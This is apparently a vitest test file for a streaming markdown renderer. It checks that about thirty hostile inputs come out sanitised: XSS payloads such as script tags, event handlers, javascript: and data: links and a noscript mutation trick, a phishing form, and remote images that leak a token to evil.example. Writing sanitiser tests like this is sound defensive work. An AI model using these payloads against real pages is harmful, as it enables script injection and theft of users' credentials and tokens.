import { describe, expect, test } from 'vitest';
import { GrowingMarkdown, renderMarkdown, type Block } from './markdown';

/** What the blocks become in a page. */
function drawn(blocks: Block[]): HTMLElement {
  const page = document.createElement('div');
  for (const block of blocks) {
    if (block.kind === 'html') page.insertAdjacentHTML('beforeend', block.html);
    else {
      const pre = document.createElement('pre');
      pre.textContent = block.text;
      page.append(pre);
    }
  }
  return page;
}

const HOSTILE: [string, string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script inside a paragraph', 'Hello <script src="https://evil.example/x.js"></script> there'],
  ['an image with a handler', '<img src=x onerror="alert(1)">'],
  ['an svg with a handler', '<svg onload="alert(1)"><script>alert(1)</script></svg>'],
  ['math with a link', '<math href="javascript:alert(1)">CLICK</math>'],
  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['an iframe', '<iframe src="https://evil.example"></iframe>'],
  ['an iframe with a document', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  [
    'a form',
    '<form action="https://evil.example"><input name="key"><button>Sign in</button></form>',
  ],
  ['a style tag', '<style>body{display:none}</style>'],
  [
    'a style attribute that covers the page',
    '<div style="position:fixed;inset:0;background:red">x</div>',
  ],
  ['our own classes', '<div class="fixed inset-0 z-50 bg-canvas">x</div>'],
  ['a base tag', '<base href="https://evil.example/">'],
  ['an object', '<object data="https://evil.example/x.swf"></object>'],
  ['a link tag', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['a javascript link', '[click](javascript:alert(1))'],
  ['a javascript link in disguise', '[click](JaVaScRiPt&#58;alert(1))'],
  ['a data link', '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['a vbscript autolink', '<vbscript:msgbox(1)>'],
  ['a link to another host without a scheme', '[click](//evil.example/x)'],
  ['a handler in a link title', '[click](https://ok.example "x\\" onmouseover=\\"alert(1)")'],
  ['a remote image', '![secret](https://evil.example/?q=token)'],
  ['a remote image by reference', '![secret][x]\n\n[x]: https://evil.example/?q=token'],
  ['a remote image in raw HTML', '<img src="https://evil.example/?q=token">'],
  ['an svg as a picture', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
  ['names that shadow ours', '<a id="location" name="body">x</a>'],
  ['a template that mutates', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['markup in a fence’s language', '```"><img src=x onerror=alert(1)>\ncode\n```'],
  ['markup in code', '`<img src=x onerror=alert(1)>`'],
  [
    'video and audio',
    '<video src="https://evil.example/v"></video><audio src="https://evil.example/a">',
  ],
];

const FORBIDDEN =
  'script, style, svg, math, iframe, object, embed, form, input, button, meta, base, link, video, audio, template, noscript, div, textarea, select';

describe('hostile text', () => {
  const ways: [string, (text: string) => Block[]][] = [
    ['finished', renderMarkdown],
    ['growing', (text) => new GrowingMarkdown().update(text)],
    [
      'growing piece by piece',
      (text) => {
        const markdown = new GrowingMarkdown();
        for (let i = 1; i <= text.length; i += 3) {
          expectSafe(drawn(markdown.update(text.slice(0, i))));
        }
        return markdown.update(text);
      },
    ],
  ];
  for (const [way, render] of ways) {
    test.each(HOSTILE)(`${way}: %s`, (_, text) => expectSafe(drawn(render(text))));
  }
});

function expectSafe(page: HTMLElement): void {
  expect(page.querySelector(FORBIDDEN)).toBeNull();
  for (const element of page.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect([
        'href',
        'src',
        'alt',
        'title',
        'start',
        'align',
        'data-picture',
        'target',
        'rel',
      ]).toContain(name);
      if (name === 'href') expect(value).toMatch(/^(https?:|mailto:|\/(?!\/)|#)/i);
      if (name === 'src')
        expect(value).toMatch(/^(data:image\/(png|jpeg|gif|webp)|blob:|\/(?!\/))/);
    }
  }
}

test('a remote picture is a link that says where it leads', () => {
  const link = drawn(renderMarkdown('![the logo](https://evil.example/?q=token)')).querySelector(
    'a',
  );
  expect(link?.dataset['picture']).toBe('evil.example');
  expect(link?.textContent).toBe('the logo');
  expect(link?.rel).toBe('noopener noreferrer');
});

test('raw HTML is shown as it was written', () => {
  expect(drawn(renderMarkdown('Use <b>bold</b>.')).textContent?.trim()).toBe('Use <b>bold</b>.');
});

test('lists, tables, tasks and links come out', () => {
  const page = drawn(
    renderMarkdown(
      '# T\n\n- [x] done\n- [ ] open\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n[s](/s/1) and https://ok.example',
    ),
  );
  expect(page.querySelectorAll('li')).toHaveLength(2);
  expect(page.querySelector('li')?.textContent).toContain('☑');
  expect(page.querySelector('td')?.textContent).toBe('1');
  expect(page.querySelector('a')?.getAttribute('href')).toBe('/s/1');
  expect(page.querySelectorAll('a')[1]?.target).toBe('_blank');
});

describe('a growing text', () => {
  const TEXT =
    'First **paragraph**.\n\n```python\nprint(1)\n\nprint(2)\n```\n\n1. one\n2. two\n\nLast.';

  test('ends as the finished text would be', () => {
    const markdown = new GrowingMarkdown();
    let blocks: Block[] = [];
    for (let i = 1; i <= TEXT.length; i++) blocks = markdown.update(TEXT.slice(0, i));
    expect(blocks).toEqual(renderMarkdown(TEXT));
  });

  test('keeps finished blocks as they are', () => {
    const markdown = new GrowingMarkdown();
    const before = markdown.update(TEXT);
    const after = markdown.update(`${TEXT} And on.`);
    expect(after[0]).toBe(before[0]);
    expect(after[1]).toBe(before[1]);
    expect(after.at(-1)).not.toBe(before.at(-1));
  });

  test('closes what is half open', () => {
    const [block] = new GrowingMarkdown().update('This is **bol');
    expect(block).toMatchObject({
      kind: 'html',
      html: expect.stringContaining('<strong>bol</strong>'),
    });
  });

  test('starts over where the text became another', () => {
    const markdown = new GrowingMarkdown();
    markdown.update('One.\n\nTwo.\n\nThree.');
    expect(drawn(markdown.update('Other.')).textContent?.trim()).toBe('Other.');
  });
});
